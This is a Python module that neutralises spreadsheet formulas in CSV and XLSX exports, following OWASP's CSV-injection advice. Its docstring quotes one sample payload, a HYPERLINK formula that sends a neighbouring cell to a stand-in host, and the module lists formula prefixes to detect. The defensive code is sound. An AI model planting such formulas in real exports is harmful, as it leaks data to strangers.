"""The one way to write a CSV or XLSX file that a person opens in a spreadsheet program.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by Excel,
LibreOffice and Google Sheets: a username such as ``=HYPERLINK("http://evil.invalid/?"&B2,"Open")`` from a
failed sign-in would send the next cell to a stranger when the audit export is opened. As OWASP recommends
(CSV injection), such a cell is written with a single quote in front, so it is shown as text. Numbers stay
numbers: a numeric value (or text that is a plain number, like ``-3``) is written as it is.

Every export goes through `csv_writer`, `csv_bytes` or `xlsx_bytes`; `safe_cell` is the rule itself.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet must get it: numbers as they are, text that would be a formula quoted."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    if text[:1] in FORMULA_PREFIXES and not _PLAIN_NUMBER.match(text):
        return "'" + text
    return value if isinstance(value, str) else text


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class SafeCsvWriter:
    """`csv.writer` with every cell passed through `safe_cell`."""

    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: Any, **options: Any) -> SafeCsvWriter:
    """A CSV writer on `out` (a file or anything with `write`) that neutralises formulas."""
    return SafeCsvWriter(out, **options)


def csv_bytes(rows: Iterable[Iterable[Any]], **options: Any) -> bytes:
    """Rows as UTF-8 CSV, formulas neutralised."""
    buffer = io.StringIO()
    csv_writer(buffer, **options).writerows(rows)
    return buffer.getvalue().encode("utf-8")


def xlsx_bytes(title: str, rows: Iterable[Iterable[Any]]) -> bytes:
    """Rows as one XLSX sheet named `title` (31 characters at most), formulas neutralised: openpyxl would
    otherwise store a text beginning with ``=`` as a formula."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=title[:31])
    for row in rows:
        sheet.append(safe_row(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
